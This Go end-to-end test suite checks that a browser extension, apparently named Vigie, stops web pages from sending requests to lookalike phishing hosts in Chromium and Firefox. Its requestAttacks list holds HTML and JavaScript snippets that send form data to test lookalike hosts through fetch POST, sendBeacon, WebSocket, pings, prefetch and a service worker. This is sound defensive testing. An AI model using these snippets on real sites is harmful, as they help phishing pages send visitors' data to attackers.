package e2e

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// swOrigins: the hosts whose service workers the scenarios register
// (Chromium treats them as secure origins; Firefox's testing preference
// does the same for every http origin).
const swOrigins = "http://sw1.example.org,http://sw2.example.org,http://sw3.example.org,http://" + reportedHost

// requestAttack is one way a page on an innocent-looking host sends
// something to a lookalike host without navigating to it: what a phishing
// kit does with what it collected.
type requestAttack struct {
	name string
	page string // the page's HTML; %[1]s is the lookalike host
	act  string // JavaScript run once the page loaded (the visitor's click), or ""
	// firefox: Firefox sends it too (it sends no <a ping> by default).
	firefox bool
}

var requestAttacks = []requestAttack{
	{"object", `<object data="http://%[1]s/connexion" type="text/html" style="width:100%%;height:400px"></object>`, "", true},
	{"embed", `<embed src="http://%[1]s/connexion" type="text/html" style="width:100%%;height:400px">`, "", true},
	{"image", `<img src="http://%[1]s/pixel.gif">`, "", true},
	{"stylesheet and script", `<link rel="stylesheet" href="http://%[1]s/s.css"><script src="http://%[1]s/s.js"></script>`, "", true},
	{"fetch POST", `<script>fetch("http://%[1]s/collect", {method: "POST", mode: "no-cors", body: "nom=Jean+Dupont"}).catch(() => {})</script>`, "", true},
	{"sendBeacon", `<script>navigator.sendBeacon("http://%[1]s/beacon", "nom=Jean+Dupont")</script>`, "", true},
	{"WebSocket", `<script>try { new WebSocket("ws://%[1]s/ws") } catch (e) {}</script>`, "", true},
	{"EventSource", `<script>new EventSource("http://%[1]s/events")</script>`, "", true},
	{"a ping", `<a id="a" href="/suite" ping="http://%[1]s/ping">suite</a>`, `document.getElementById("a").click(); true`, false},
	{"link prefetch", `<link rel="prefetch" href="http://%[1]s/suite">`, "", true},
	{"service worker's fetch", `<script>window.sent = navigator.serviceWorker.register("/sw.js")
  .then(() => navigator.serviceWorker.ready)
  .then((r) => { r.active.postMessage("http://%[1]s/sw"); return true; });</script>`, `window.sent`, true},
}

// swScript is the site's service worker: it fetches whatever it is told.
const swScript = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));
self.addEventListener("message", (e) => e.waitUntil(fetch(e.data, {mode: "no-cors"}).catch(() => {})));`

// pageDriver is the little a request scenario needs of a browser.
type pageDriver interface {
	open(t testing.TB, url string) // a new tab at url, loaded
	run(t testing.TB, js string)   // in the last tab opened
	cold(t testing.TB)             // stop the extension's worker (or nothing)
}

// sendRequestAttacks opens every attack's page (one tab each, after
// stopping the extension's worker when cold) and runs its action; it
// returns the lookalike host of each attack, by name.
func sendRequestAttacks(t testing.TB, s *site, d pageDriver, variant int, firefox, cold bool) (names, targets []string) {
	for i, a := range requestAttacks {
		if firefox && !a.firefox {
			continue
		}
		target := fmt.Sprintf("a%d-v%d.arneli.fr", i, variant)
		host := fmt.Sprintf("page%d-v%d.example.org", i, variant)
		if strings.Contains(a.page, "serviceWorker") {
			host = fmt.Sprintf("sw%d.example.org", variant)
			s.setFile(host+"/sw.js", []byte(swScript))
		}
		s.setPage(host, `<!doctype html><html lang="fr"><meta charset="utf-8"><title>Actualités</title><body><p>Bienvenue.</p>`+fmt.Sprintf(a.page, target))
		if cold {
			d.cold(t)
		}
		d.open(t, "http://"+host+"/")
		if a.act != "" {
			d.run(t, a.act)
		}
		if cold {
			// What the page sends after its load (a beacon, a ping, a
			// reconnecting EventSource) is sent before the next stop: a
			// worker stopped by force drops the events it was answering.
			time.Sleep(700 * time.Millisecond)
		}
		targets, names = append(targets, target), append(names, a.name)
	}
	return names, targets
}

// runRequestAttacks sends every attack, then asks the lookalikes' server:
// with Vigie nothing arrived; without (control) each attack's request did.
func runRequestAttacks(t *testing.T, s *site, d pageDriver, variant int, firefox, cold, control bool) {
	t.Helper()
	names, targets := sendRequestAttacks(t, s, d, variant, firefox, cold)
	if control {
		for i, target := range targets {
			waitFor(t, "the request of "+names[i]+" at the lookalike's server, without Vigie (control)", func() bool { return s.hitsFor(target) > 0 })
		}
		return
	}
	time.Sleep(2 * time.Second) // a late request would show now
	for i, target := range targets {
		if n := s.hitsFor(target); n != 0 {
			t.Errorf("%s: the lookalike's server received %d request(s)", names[i], n)
		}
	}
}

// chromiumPages drives a Chromium.
type chromiumPages struct {
	b    *browser
	last context.Context
}

func (c *chromiumPages) open(t testing.TB, url string) {
	c.last = c.b.tab(t)
	navigate(c.last, url)
}

func (c *chromiumPages) run(t testing.TB, js string) {
	yes := true
	if _, err := chromedp.Call(c.last, runtime.Evaluate, runtime.EvaluateParams{Expression: js, UserGesture: &yes, AwaitPromise: &yes}); err != nil {
		t.Fatal(err)
	}
}

func (c *chromiumPages) cold(t testing.TB) {
	if c.b.extID != "" {
		c.b.stopWorker(t)
	}
}

// Every kind of request a page can send reaches no lookalike: <object>,
// <embed>, images, styles and scripts, fetch, sendBeacon, WebSocket,
// EventSource, <a ping>, prefetch, a site's service worker. Chromium with
// Vigie force-installed, its worker awake and stopped before each page;
// the control is the floor extension (a blocking listener that lets all
// through), where every one of them arrives.
func TestGateEveryRequestType(t *testing.T) {
	t.Run("control: floor extension", func(t *testing.T) {
		fb := newFloorBrowser(t)
		runRequestAttacks(t, fb.site, &chromiumPages{b: fb}, 1, false, false, true)
	})
	b := newBrowser(t)
	d := &chromiumPages{b: b}
	t.Run("warm", func(t *testing.T) { runRequestAttacks(t, b.site, d, 1, false, false, false) })
	t.Run("worker stopped before each page", func(t *testing.T) { runRequestAttacks(t, b.site, d, 2, false, true, false) })
}

// firefoxPages drives a Firefox.
type firefoxPages struct {
	f      *firefox
	last   string
	asleep time.Duration
}

func (p *firefoxPages) open(t testing.TB, url string) {
	p.last = p.f.tab(t)
	p.f.navigate(t, p.last, url)
}

func (p *firefoxPages) run(t testing.TB, js string) { p.f.eval(t, p.last, js) }

func (p *firefoxPages) cold(t testing.TB) { time.Sleep(p.asleep) }

// swPrefs let Firefox register service workers on the test's http hosts.
var swPrefs = map[string]any{"dom.serviceWorkers.testing.enabled": true}

// The same in Firefox ESR, awake and with the background page asleep; the
// control is Firefox with the floor extension.
func TestFirefoxGateEveryRequestType(t *testing.T) {
	t.Run("control: floor extension", func(t *testing.T) {
		ff := startFirefox(t, swPrefs, func(*site, string) {})
		installFirefoxFloor(t, ff)
		runRequestAttacks(t, ff.site, &firefoxPages{f: ff}, 1, true, false, true)
	})
	t.Run("awake", func(t *testing.T) {
		f := newFirefoxWith(t, swPrefs)
		runRequestAttacks(t, f.site, &firefoxPages{f: f}, 1, true, false, false)
	})
	t.Run("background page asleep before each page", func(t *testing.T) {
		prefs := map[string]any{"extensions.background.idle.timeout": 1000}
		for k, v := range swPrefs {
			prefs[k] = v
		}
		f := newFirefoxWith(t, prefs)
		runRequestAttacks(t, f.site, &firefoxPages{f: f, asleep: 2 * time.Second}, 2, true, true, false)
	})
}

// installFirefoxFloor installs the floor extension in Firefox: a blocking
// listener on every request that lets everything through.
func installFirefoxFloor(t *testing.T, f *firefox) {
	dir := t.TempDir()
	files := map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "floor", "version": "1.0",
  "background": {"scripts": ["bg.js"]}, "permissions": ["webRequest", "webRequestBlocking"],
  "host_permissions": ["<all_urls>"], "browser_specific_settings": {"gecko": {"id": "floor@vigie.test"}}}`,
		"bg.js": `chrome.webRequest.onBeforeRequest.addListener(() => ({}), {urls: ["<all_urls>"]}, ["blocking"]);`,
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.bidi.call("webExtension.install", map[string]any{"extensionData": map[string]any{"type": "path", "path": dir}}, nil); err != nil {
		t.Fatalf("installing the floor extension: %v", err)
	}
}
